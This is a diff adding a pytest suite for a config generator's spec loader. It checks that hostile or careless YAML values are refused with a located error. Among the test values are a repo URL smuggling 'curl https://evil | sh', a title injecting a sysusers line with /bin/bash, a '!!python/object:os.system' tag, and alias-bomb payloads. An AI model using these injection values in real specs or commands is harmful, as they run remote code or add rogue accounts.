@@ -1,0 +1,163 @@
+"""Hostile and careless spec values: each gives exit 2, a message located at the value, and
+leaves build/ as it was (issue "Safe on any spec", reproductions 1-4 and 8).
+
+Each case edits one file of a copy of the repo's own spec/, renders it with the real CLI
+into a build/ folder that already holds a tree, and checks the message and that the old
+tree is untouched. The expected line is found in the edited text, so a message pointing
+elsewhere fails the test.
+"""
+
+from __future__ import annotations
+
+import re
+import shutil
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+from helpers import REPO, line_of, run_cli, tree_bytes
+
+from generator import treesize
+from generator.cli import main
+
+BIG = "x" * 500_000
+# (case id, spec file, old text, new text, marker of the reported line, dotted path, message regex)
+CASES = [
+    ("logs-in-etc", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /etc", "logs_dir:",
+     "project.logs_dir", r"/etc is a system folder.*e\.g\. /var/log/zachot"),
+    ("logs-var-log", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /var/log", "logs_dir:",
+     "project.logs_dir", r"/var/log is a system folder"),
+    ("logs-slash", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /", "logs_dir:",
+     "project.logs_dir", r"/ is a system folder"),
+    ("logs-other-package", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /var/log/nginx", "logs_dir:",
+     "project.logs_dir", r"named after the project 'zachot'"),
+    ("logs-hold-the-venv", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /opt/zachot", "logs_dir:",
+     "project.logs_dir", r"holds project\.venv"),
+    ("env-in-etc", "project.yaml", "env_file: /opt/zachot/envs/prod/etc/zachot.env", "env_file: /etc/zachot.env",
+     "env_file:", "project.env_file", r"/etc is a system folder.*/etc/zachot/zachot\.env"),
+    ("env-in-systemd", "project.yaml", "env_file: /opt/zachot/envs/prod/etc/zachot.env",
+     "env_file: /etc/systemd/zachot.env", "env_file:", "project.env_file", r"/etc/systemd is a system folder"),
+    ("venv-usr", "project.yaml", "venv: /opt/zachot/envs/prod", "venv: /usr/local/zachot", "venv:",
+     "project.venv", r"belongs to the operating system"),
+    ("root-opt", "project.yaml", "root: /opt/zachot", "root: /opt", "root:", "project.root", r"system folder"),
+    ("path-trailing-newline", "project.yaml", "root: /opt/zachot", 'root: "/opt/zachot\\n"', "root:",
+     "project.root", r"may only contain"),
+    ("title-injects-sysusers-line", "project.yaml", "title: zachot",
+     'title: "x\\" /bin/sh\\nu evil - \\"e\\" / /bin/bash\\n#"', "title:", "project.title", r"one line"),
+    ("repo-url-shell", "project.yaml", "repo_url: https://github.com/zachot/zachot",
+     'repo_url: "https://x; curl https://evil | sh"', "repo_url:", "project.repo_url", r"repository URL"),
+    ("user-www-data", "project.yaml", "user: zachot", "user: www-data", "user: www-data", "project.user",
+     r"belongs to the base system"),
+    ("project-named-systemd", "project.yaml", "name: zachot", "name: systemd", "name: systemd", "project.name",
+     r"tmpfiles\.d/systemd\.conf would mask"),
+    ("unit-sshd", "services.yaml", "unit: zachot-api", "unit: sshd", "unit: sshd", "services.api.unit",
+     r"could replace the system's own"),
+    ("sexagesimal", "services.yaml", "delay_sec: 5", "delay_sec: 1:30", "delay_sec: 1:30",
+     "services.api.restart.delay_sec", r"'1:30' is a number in YAML 1\.1 and text in YAML 1\.2"),
+    ("octal-looking", "services.yaml", "delay_sec: 5", "delay_sec: 010", "delay_sec: 010", ".delay_sec",
+     r"'010' is 8 \(octal\) in YAML 1\.1 and 10 in YAML 1\.2"),
+    ("not-octal-digits", "services.yaml", "port: 8000", "port: 08000", "port: 08000", "services.api.runner.port",
+     r"'08000' is text in YAML 1\.1 and a number in YAML 1\.2"),
+    ("policy-no", "services.yaml", "policy: always", "policy: no", "policy: no", ".restart.policy",
+     r"'no' is a boolean in YAML 1\.1 and text in YAML 1\.2; quote it"),
+    ("flag-yes", "logging.yaml", "compress: true", "compress: yes", "compress: yes", ".compress",
+     r"'yes' is a boolean in YAML 1\.1"),
+    ("flag-one", "logging.yaml", "compress: true", "compress: 1", "compress: 1", ".compress", r"valid boolean"),
+    ("bad-date", "services.yaml", "delay_sec: 5", "delay_sec: 2024-02-30", "2024-02-30",
+     "services.api.restart.delay_sec", r"a date in YAML 1\.1"),
+    ("int-tag", "services.yaml", "delay_sec: 5", "delay_sec: !!int abc", "!!int", "services.api.restart.delay_sec",
+     r"not a valid !!int"),
+    ("float-tag", "services.yaml", "delay_sec: 5", "delay_sec: !!float abc", "!!float", ".delay_sec",
+     r"not a valid !!float"),
+    ("bool-tag", "services.yaml", "delay_sec: 5", "delay_sec: !!bool maybe", "!!bool", ".delay_sec",
+     r"not a valid !!bool"),
+    ("timestamp-tag", "services.yaml", "delay_sec: 5", "delay_sec: !!timestamp nope", "!!timestamp", ".delay_sec",
+     r"tag '!!timestamp' is not supported"),
+    ("python-tag", "services.yaml", "delay_sec: 5", "delay_sec: !!python/object:os.system x", "!!python", ".delay_sec",
+     r"not supported"),
+    ("set-tag", "services.yaml", "in_memory_state:", "in_memory_state: !!set\n      ? a\n    xx:", "!!set",
+     "in_memory_state", r"tag '!!set' is not supported"),
+    ("huge-int", "services.yaml", "delay_sec: 5", "delay_sec: " + "9" * 5000, "delay_sec: 999",
+     ".delay_sec", r"an integer of 5000 digits"),
+    ("overflow-float", "services.yaml", "delay_sec: 5", "delay_sec: 1e309", "1e309", ".delay_sec", r"infinity"),
+    ("nan", "services.yaml", "delay_sec: 5", "delay_sec: .nan", ".nan", ".delay_sec", r"finite number"),
+    ("nul-escape", "services.yaml", "title: API", 'title: "A\\0PI"', "A\\0PI", "services.api.title",
+     r"control character"),
+    ("nul-raw", "services.yaml", "title: API", "title: A\x00PI", "A\x00PI", "", r"U\+0000 is not allowed"),
+    ("deep-list", "backup.yaml", "  philosophy:\n", "  philosophy:\n    - " + "[" * 500 + "]" * 500 + "\n",
+     "[[[", "", r"nest deeper than 64 levels"),
+    ("recursive-alias", "backup.yaml", "  philosophy:\n", "  philosophy:\n    - &self [*self]\n", "&self", "",
+     r"aliases nest lists and mappings deeper than 64"),
+    ("alias-amplification", "backup.yaml", "  philosophy:\n",
+     "  philosophy:\n    - &big " + BIG + "\n" + "    - *big\n" * 1000, "&big", "",
+     r"aliases repeat more than 1048576 bytes"),
+]  # fmt: skip
+
+
+@pytest.fixture
+def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A copy of the repo's spec/ (pointing at this checkout) and a rendered build/ beside it."""
+    shutil.copytree(REPO / "spec", tmp_path / "spec")
+    project = tmp_path / "spec" / "project.yaml"
+    project.write_text(project.read_text().replace("source: ..", f"source: {REPO}"))
+    monkeypatch.chdir(tmp_path)
+    assert CliRunner().invoke(main, ["render"]).exit_code == 0
+    return tmp_path
+
+
+@pytest.mark.parametrize(
+    ("file", "old", "new", "marker", "path", "message"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
+)
+def test_hostile_value_is_refused_where_it_is_written(
+    work: Path, file: str, old: str, new: str, marker: str, path: str, message: str
+) -> None:
+    target = work / "spec" / file
+    text = target.read_text()
+    assert old in text, "the repo spec changed; update the case"
+    text = text.replace(old, new, 1)
+    target.write_text(text)
+    before = tree_bytes(work / "build")
+    result = CliRunner().invoke(main, ["render"])
+    assert result.exit_code == 2, result.output
+    assert isinstance(result.exception, SystemExit), repr(result.exception)
+    lines = [ln for ln in result.output.splitlines() if not ln.startswith("zachot-gen: ")]
+    located = rf"^spec/{re.escape(file)}:{line_of(text, marker)}:\d+: (\S*{re.escape(path)}: )?.*{message}"
+    assert any(re.search(located, ln) for ln in lines), result.output
+    assert tree_bytes(work / "build") == before
+
+
+def test_check_and_validate_refuse_the_same(work: Path) -> None:
+    """The policy lives in the loader, so every command refuses, not only render."""
+    project = work / "spec" / "project.yaml"
+    project.write_text(project.read_text().replace("logs_dir: /opt/zachot/logs", "logs_dir: /etc"))
+    for command in ("check", "validate"):
+        result = run_cli(command, cwd=work)
+        assert result.returncode == 2, (command, result.stderr)
+        assert "project.logs_dir: /etc is a system folder" in result.stderr
+        assert "Traceback" not in result.stderr
+
+
+def test_project_folders_of_other_shapes_are_accepted(work: Path) -> None:
+    """/var/log/<name>, /etc/<name>/<file>, a state folder in /var/lib/<name>: the project's own."""
+    project = work / "spec" / "project.yaml"
+    text = project.read_text().replace("logs_dir: /opt/zachot/logs", "logs_dir: /var/log/zachot")
+    project.write_text(text.replace("/opt/zachot/envs/prod/etc/zachot.env", "/etc/zachot/zachot.env"))
+    result = CliRunner().invoke(main, ["render"])
+    assert result.exit_code == 0, result.output
+    tmpfiles = (work / "build/root/etc/tmpfiles.d/zachot.conf").read_text()
+    assert "d /var/log/zachot 0750 zachot zachot -" in tmpfiles
+    assert "d /etc/zachot 0750 root zachot -" in tmpfiles
+
+
+def test_rendered_tree_over_the_bound_is_refused_at_the_longest_value(
+    work: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The last guard: with the bound lowered below the real tree's size, render refuses and
+    points at the spec's longest text; build/ is untouched."""
+    monkeypatch.setattr(treesize, "BASE_BYTES", 1000)
+    monkeypatch.setattr(treesize, "BYTES_PER_SPEC_BYTE", 0)
+    before = tree_bytes(work / "build")
+    result = CliRunner().invoke(main, ["render"])
+    assert result.exit_code == 2, result.output
+    assert re.search(r"^spec/\S+\.yaml:\d+:\d+: \S+: the rendered tree would be \d+ bytes", result.output, re.M)
+    assert tree_bytes(work / "build") == before
